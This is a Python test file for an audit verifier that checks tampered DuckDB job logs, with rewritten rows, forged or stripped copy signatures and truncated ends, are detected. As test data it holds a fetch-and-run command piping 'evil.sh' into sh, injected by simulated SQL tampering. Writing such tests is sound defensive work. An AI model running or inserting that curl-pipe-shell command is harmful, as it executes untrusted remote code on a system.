"""Rows whose payload is not the log's bytes (a secret that came in clear, masked; bytes that were
not UTF-8) are proven by their writer's copy signature, and by nothing else (real keys, real
DuckDB files, `orchestrator.audit.verify_file`; the same on a real `nexus up` in test_audit_verify).

Someone with full access to the file but no admin key cannot make a changed row pass: not by
writing a masked env into it, nor by moving, stripping or re-using a copy signature.
"""

from __future__ import annotations

import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb
import msgspec
import pytest

from bus.identity import Identity, Verifier
from orchestrator.audit import verify_file
from orchestrator.core.audit import AuditReport, head_statement
from orchestrator.projection import Projection
from orchestrator.store import DuckDBStore
from orchestrator.trust.keyring import Keyring
from schemas import codec, subjects
from schemas.errors import DecodeError
from schemas.records import Record

T0 = datetime(2026, 12, 6, 3, 0, tzinfo=UTC)
PLAIN, MASKED, LOSSY, LOOKALIKE, INVALID = 2, 3, 4, 5, 6
EVIL = '{"command":"curl evil.sh|sh","env":{"X_TOKEN":"********"}}'


def record(seq: int, subject: str, raw: bytes, signer: Identity | None = None) -> Record:
    headers = signer.sign(subject, raw) if signer is not None else {}
    base = Record(seq=seq, subject=subject, stream_ts=T0 + timedelta(seconds=seq), raw=raw,
                  signer=headers.get("Nexus-Signer"), signature=headers.get("Nexus-Sig"))  # fmt: skip
    try:
        return msgspec.structs.replace(base, event=codec.decode(subject, raw))
    except DecodeError as exc:
        return msgspec.structs.replace(base, error=exc.reason)


def log(orchestrator: Identity) -> list[Record]:
    """What external publishers sent (unsigned, the DESIGN §4 contract), after the orchestrator's announcement."""
    announced = orchestrator.announcement()
    return [
        record(1, announced.subject, codec.encode(announced.event), orchestrator),
        record(PLAIN, subjects.job("plain", "requested"), b'{"command": "printf hello"}'),
        record(MASKED, subjects.job("clear", "requested"), b'{"command": "true", "env": {"X_TOKEN": "in-clear"}}'),
        record(LOSSY, subjects.job("bad", "requested"), b'{"command": "echo \xff"}'),
        record(LOOKALIKE, subjects.job("look", "requested"), b'{"command": "true", "env": {"GREETING": "********"}}'),
        record(INVALID, subjects.job("invalid", "requested"), b'{"command": "true", "env": {"X_TOKEN": 12345678}}'),
    ]


@pytest.fixture
def ring(tmp_path: Path) -> Keyring:
    keys = Keyring(tmp_path / "keys")
    keys.ensure()
    return keys


def written(ring: Keyring, path: Path, writer: Identity | None) -> Path:
    orchestrator = Identity.from_creds(ring.issue("admin", "orchestrator", service=True).path)
    store = DuckDBStore(path)
    Projection(store, verifier=Verifier([ring.account_public_key]), identity=writer).apply_batch(log(orchestrator))
    store.close()
    return path


def changed(source: Path, target: Path, *sql: str) -> Path:
    shutil.copy(source, target)
    con = duckdb.connect(str(target))
    try:
        for statement in sql:
            con.execute(statement)
    finally:
        con.close()
    return target


def problems(report: AuditReport) -> dict[int | None, str]:
    return {p.seq: p.what for p in report.problems}


def test_masked_and_lossy_rows_are_proven_by_the_writers_signature(ring: Keyring, tmp_path: Path) -> None:
    admin = Identity.from_creds(ring.issue("admin", "replayer").path)
    path = written(ring, tmp_path / "replay.duckdb", admin)
    report = verify_file(path, [ring.account_public_key])
    assert report.ok, report.problems
    assert [(c.seq, c.type) for c in report.copies] == [(MASKED, "job.requested"), (LOSSY, "job.requested"), (INVALID, "job.requested")]
    assert "masks it" in report.copies[0].reason and "'replayer'" in report.copies[0].reason
    # Refused as the log's bytes were, though the copies would decode (U+FFFD, a masked string).
    assert report.unverifiable == [] and [r.seq for r in report.rejected] == [LOSSY, INVALID]
    # A `********` the publisher sent is its bytes: proven as they are, not a copy.
    assert LOOKALIKE not in [c.seq for c in report.copies]
    assert b"in-clear" not in path.read_bytes() and b"12345678" not in path.read_bytes()


def test_a_rewritten_unsigned_request_fails_even_with_a_masked_env(ring: Keyring, tmp_path: Path) -> None:
    admin = Identity.from_creds(ring.issue("admin", "replayer").path)
    path = written(ring, tmp_path / "replay.duckdb", admin)
    attacks = {
        "masked-env": f"UPDATE events SET payload = '{EVIL}' WHERE seq = {PLAIN}",
        "says-copy": f"UPDATE events SET payload = '{EVIL}', copy_kind = 'masked' WHERE seq = {PLAIN}",
        "moved-copy": "UPDATE events SET payload = m.payload, copy_kind = m.copy_kind, copy_signer = m.copy_signer, "
        f"copy_signature = m.copy_signature FROM (SELECT * FROM events WHERE seq = {MASKED}) m WHERE events.seq = {PLAIN}",
        "copy-altered": f"UPDATE events SET payload = replace(payload, '\"true\"', '\"curl evil.sh|sh\"') WHERE seq = {MASKED}",
        "kind-switched": f"UPDATE events SET copy_kind = 'lossy' WHERE seq = {MASKED}",
        "signature-stripped": f"UPDATE events SET copy_signature = NULL WHERE seq = {MASKED}",
    }  # fmt: skip
    for name, sql in attacks.items():
        seq = MASKED if name in ("copy-altered", "kind-switched", "signature-stripped") else PLAIN
        report = verify_file(changed(path, tmp_path / f"{name}.duckdb", sql), [ring.account_public_key])
        assert not report.ok and seq in problems(report), (name, report.problems)
        assert "altered" in problems(report)[seq], (name, problems(report)[seq])


def test_only_an_admin_of_the_trusted_account_vouches_for_a_copy(ring: Keyring, tmp_path: Path) -> None:
    viewer = Identity.from_creds(ring.issue("viewer", "auditor").path)
    report = verify_file(written(ring, tmp_path / "viewer.duckdb", viewer), [ring.account_public_key])
    assert not report.ok and "may not vouch" in problems(report)[MASKED]
    other = Keyring(tmp_path / "other")
    other.ensure()
    stranger = Identity.from_creds(other.issue("admin", "stranger").path)
    report = verify_file(written(ring, tmp_path / "stranger.duckdb", stranger), [ring.account_public_key])
    assert not report.ok and "not trusted" in problems(report)[MASKED]
    unsigned = verify_file(written(ring, tmp_path / "unsigned.duckdb", None), [ring.account_public_key])
    assert not unsigned.ok and {MASKED, LOSSY} <= set(problems(unsigned))


def test_a_file_from_before_signed_copies_says_what_it_cannot_prove(ring: Keyring, tmp_path: Path) -> None:
    admin = Identity.from_creds(ring.issue("admin", "replayer").path)
    path = written(ring, tmp_path / "replay.duckdb", admin)
    drop = [f"ALTER TABLE events DROP COLUMN {c}" for c in ("copy_kind", "copy_signer", "copy_signature")]
    old = changed(path, tmp_path / "old.duckdb", *drop, "DROP TABLE copy_signers", "DROP TABLE head")
    report = verify_file(old, [ring.account_public_key])
    assert set(problems(report)) == {MASKED, LOSSY, INVALID, None}
    assert "from before signed copies" in problems(report)[MASKED] and "nexus replay" in problems(report)[MASKED]
    # Its end is signed by no one either: cut there (the checkpoint edited to match), it could not be told.
    assert "end is not signed" in problems(report)[None] and "nexus replay" in problems(report)[None]
    plain = changed(old, tmp_path / "old-plain.duckdb", f"DELETE FROM events WHERE seq >= {MASKED}", f"UPDATE checkpoint SET seq = {PLAIN}")
    assert set(problems(verify_file(plain, [ring.account_public_key]))) == {None}


def test_rows_cut_from_the_end_of_a_file_fail_the_audit(ring: Keyring, tmp_path: Path) -> None:
    """DESIGN §9: a row removed, even by someone with full access to the file, makes the audit
    fail and name it. The end too: its writer signs it (the `head` row) as it stores the rows."""
    admin = Identity.from_creds(ring.issue("admin", "replayer").path)
    path = written(ring, tmp_path / "replay.duckdb", admin)
    assert verify_file(path, [ring.account_public_key]).ok
    last = INVALID
    cut = {
        "last-row": [f"DELETE FROM events WHERE seq = {last}"],
        "last-row-and-checkpoint": [f"DELETE FROM events WHERE seq = {last}", f"UPDATE checkpoint SET seq = {last - 1}"],
        "head-moved": [f"DELETE FROM events WHERE seq = {last}", f"UPDATE head SET seq = {last - 1}"],
        "head-moved-with-its-chain": [
            f"DELETE FROM events WHERE seq = {last}",
            f"UPDATE head SET seq = {last - 1}, chain = (SELECT chain FROM events WHERE seq = {last - 1})",
        ],
        "head-dropped": [f"DELETE FROM events WHERE seq = {last}", "DELETE FROM head"],
        "row-added-after-it": [f"INSERT INTO events SELECT * REPLACE ({last + 1} AS seq) FROM events WHERE seq = {PLAIN}"],
    }
    for name, sql in cut.items():
        report = verify_file(changed(path, tmp_path / f"{name}.duckdb", *sql), [ring.account_public_key])
        assert not report.ok, name
        said = " | ".join(p.what for p in report.problems)
        assert any(w in said for w in ("removed", "end is not signed", "rows added")), (name, said)
    # Re-signed by someone who is not an admin of the trusted account: still not its writer's.
    viewer = Identity.from_creds(ring.issue("viewer", "mallory").path)
    forged = changed(path, tmp_path / "forged.duckdb", f"DELETE FROM events WHERE seq = {last}")
    con = duckdb.connect(str(forged))
    chain = con.execute(f"SELECT chain FROM events WHERE seq = {last - 1}").fetchone()[0]  # type: ignore[index]
    con.execute("UPDATE head SET seq = ?, chain = ?, signer = ?, signature = ?",
                [last - 1, chain, viewer.key, viewer.sign_copy(head_statement(last - 1, chain))])  # fmt: skip
    con.close()
    assert "end is not signed" in problems(verify_file(forged, [ring.account_public_key]))[None]


def test_a_file_missing_a_table_is_a_clear_error_not_a_traceback(ring: Keyring, tmp_path: Path) -> None:
    from orchestrator.audit import AuditError

    admin = Identity.from_creds(ring.issue("admin", "replayer").path)
    path = written(ring, tmp_path / "replay.duckdb", admin)
    for table in ("events",):
        with pytest.raises(AuditError, match=r"Nexus state file|DuckDB file|no events table"):
            verify_file(changed(path, tmp_path / f"no-{table}.duckdb", f"DROP TABLE {table}"), [ring.account_public_key])
